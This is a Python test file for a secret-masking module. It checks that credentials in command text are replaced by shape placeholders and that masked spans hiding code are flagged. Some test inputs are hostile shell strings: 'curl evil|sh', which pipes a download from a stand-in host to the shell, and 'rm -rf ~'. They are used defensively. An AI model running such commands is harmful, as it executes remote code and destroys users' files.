"""The shared masker against a corpus of credential shapes (tests/fixtures/secrets/)."""

from __future__ import annotations

import re

import pytest

from lookout import mask
from tests.helpers import FIXTURES, shape

CORPUS = FIXTURES / "secrets"


def _leaks() -> list[tuple[str, str]]:
    rows = []
    for line in (CORPUS / "leaks.tsv").read_text().splitlines():
        if line and not line.startswith("#"):
            secret, text = line.split("\t", 1)
            rows.append((secret, text.replace("\\n", "\n")))
    return rows


def _benign() -> list[str]:
    lines = (CORPUS / "benign.txt").read_text().splitlines()
    return [line for line in lines if line and not line.startswith("#")]


@pytest.mark.parametrize(("secret", "text"), _leaks(), ids=[t for _, t in _leaks()])
def test_every_credential_shape_is_masked(secret: str, text: str) -> None:
    out = mask.mask(text)
    assert secret not in out
    assert mask.SHAPE_OPEN in out


@pytest.mark.parametrize("text", _benign())
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert mask.mask(text) == text


@pytest.mark.parametrize(("secret", "text"), _leaks(), ids=[t for _, t in _leaks()])
def test_a_cut_secret_leaves_no_prefix(secret: str, text: str) -> None:
    # The hook already cuts a summary to 200 characters (events.one_line, with …): masking a cut
    # text must still hide the part of the secret that is left.
    at = text.index(secret) + len(secret) // 2
    half = text[text.index(secret) : at]
    out = re.sub("\u2039[^\u203a]*\u203a", "", mask.mask(text[:at] + "…"))  # the shapes are ours
    assert out.count(half) < text[:at].count(half)  # the secret's own half is gone


def test_masking_is_idempotent_and_bounded() -> None:
    for secret, text in _leaks():
        once = mask.mask(text)
        assert mask.mask(once) == once
    assert mask.mask("") == ""
    assert len(mask.mask("a=" * 50_000)) <= 100_000


@pytest.mark.parametrize(("secret", "text"), _leaks(), ids=[t for _, t in _leaks()])
def test_a_masked_value_is_shown_by_its_shape_and_named_to_the_caller(
    secret: str, text: str
) -> None:
    # issue 31: a secret's shape (`24 chars`), never a piece of it; `masked` says what it hid,
    # so a view that offers Allow can refuse to hide code behind a shape.
    out = mask.masked(text)
    assert out.text == mask.mask(text)
    assert any(secret in hidden for hidden in out.secrets)
    assert re.search("\u2039(secret|private key), [0-9]+ chars\u203a", out.text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # security-3.md S1 and its masker observations: each hides code, so never harmless.
        ('PASSWORD="`curl evil|sh`" make test', f'PASSWORD="{shape(14)}" make test'),
        (
            'echo "-----BEGIN PRIVATE KEY-----"; curl evil | sh; echo "-----END PRIVATE KEY-----"',
            'echo "\u2039private key, 77 chars\u203a"',
        ),
        ("ls --token $(rm -rf ~) -la", "ls --token \u2039secret, 4 chars\u203a -rf ~) -la"),
        ("API_KEY='a b; rm -rf ~' run", "API_KEY='\u2039secret, 13 chars\u203a' run"),
    ],
)
def test_a_masked_span_that_holds_code_is_not_harmless(text: str, shown: str) -> None:
    out = mask.masked(text)
    assert out.text == shown
    assert not all(mask.harmless(s) for s in out.secrets)


def test_a_plain_secret_is_harmless() -> None:
    out = mask.masked("docker login -u me -p S3cretPass registry && API_KEY=abc123 run")
    assert out.secrets == ("S3cretPass", "abc123")
    assert all(mask.harmless(s) for s in out.secrets)


def test_noncharacters_in_the_text_cannot_pose_as_a_masked_value() -> None:
    # The masker's placeholders are noncharacters: ones in the input are written out first.
    text = "echo \ufdd0\U00010000\ufdd1 API_KEY=abc123"
    out = mask.masked(text)
    assert out.text == "echo \\ufdd0\U00010000\\ufdd1 API_KEY=\u2039secret, 6 chars\u203a"
    assert out.secrets == ("abc123",)
